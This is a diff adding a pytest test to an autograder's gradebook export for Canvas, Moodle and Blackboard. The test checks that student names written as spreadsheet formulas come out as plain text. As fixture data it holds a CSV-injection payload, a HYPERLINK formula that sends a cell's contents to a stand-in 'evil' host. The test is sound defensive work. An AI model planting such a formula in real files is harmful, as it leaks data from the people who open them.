@@ -239,6 +239,32 @@ def test_annotations_of_a_hostile_file_name_are_one_inert_line_each(graded):
             assert command.startswith("::error file=")
 
 
+FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'
+ROSTERS = {  # each platform's roster with a student whose name is a formula (students set names)
+    "canvas": ("Student,ID,SIS User ID,SIS Login ID,Section\n"
+               f'"{FORMULA.replace(chr(34), chr(34) * 2)}",1234567,,,A\n'),
+    "moodle": ("Identifier,Full name,Email address,Status,Grade,Maximum Grade\n"
+               f'Participant 1234567,"{FORMULA.replace(chr(34), chr(34) * 2)}",,,,98\n'),
+    "blackboard": ("Last Name,First Name,Username,Student ID\n"
+                   f'"{FORMULA.replace(chr(34), chr(34) * 2)}",+1,u1,1\n'),
+}
+
+
+@pytest.mark.parametrize("platform", sorted(ROSTERS))
+def test_an_import_file_writes_a_name_that_is_a_formula_as_text(tmp_path, platform):
+    from grader.batch.lms import export
+    from grader.models import Report
+
+    roster = tmp_path / "roster.csv"
+    roster.write_text(ROSTERS[platform], encoding="utf-8")
+    graded = [Row(id, "attention.py", Report("attention.py", 90.0, 98.0, ()), "graded")
+              for id in ("1234567", "u1")]
+    made = export(platform, graded, roster, "attention-grader", 98)
+    written = list(csv.reader(io.StringIO(made.text)))
+    names = [cell for row in written[1:] for cell in row if "HYPERLINK" in cell or cell.endswith("1")]
+    assert names and all(not cell.startswith(("=", "+", "-", "@")) for cell in names), written
+
+
 def test_the_pytest_plugin_prints_a_hostile_failure_as_text(pytester, tmp_path):
     submission = tmp_path / "hostile.py"  # pytest prints the path it is given as it is
     submission.write_text(hostile_source())
